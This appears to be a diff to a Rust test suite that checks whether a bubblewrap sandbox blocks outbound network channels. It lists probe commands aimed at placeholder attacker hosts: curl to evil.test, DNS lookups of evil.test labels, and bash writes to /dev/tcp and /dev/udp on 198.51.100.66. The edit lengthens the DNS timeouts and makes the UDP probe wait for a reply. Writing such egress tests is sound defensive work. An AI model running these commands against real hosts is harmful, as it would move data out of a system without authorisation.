@@ -16,10 +16,11 @@ const SANDBOX: [&str; 7] = ["bwrap", "--dev-bind", "/", "/", "--unshare-pid", "-
 const WAYS: [(&str, &str); 6] = [
     ("curl -sk --max-time 20 https://https.evil.test/", "https.evil.test"),
     ("curl -s --max-time 20 http://evil.test/plain", "/plain"),
-    ("dig +time=1 +tries=1 label.evil.test", "label"),
-    ("dig +tcp +time=1 +tries=1 tcp-label.evil.test @198.51.100.53", "tcp-label"),
+    ("dig +time=5 +tries=3 label.evil.test", "label"),
+    ("dig +tcp +time=5 +tries=3 tcp-label.evil.test @198.51.100.53", "tcp-label"),
     ("bash -c 'echo literal >/dev/tcp/198.51.100.66/4444'", "literal"),
-    ("bash -c 'echo datagram >/dev/udp/198.51.100.66/4445'", "datagram"),
+    // It waits for an answer: a job that has ended at once leaves nothing to record.
+    ("bash -c 'exec 3<>/dev/udp/198.51.100.66/4445; echo datagram >&3; read -t 1 <&3; true'", "datagram"),
 ];
 
 pub(crate) fn add(suite: &mut Suite) {
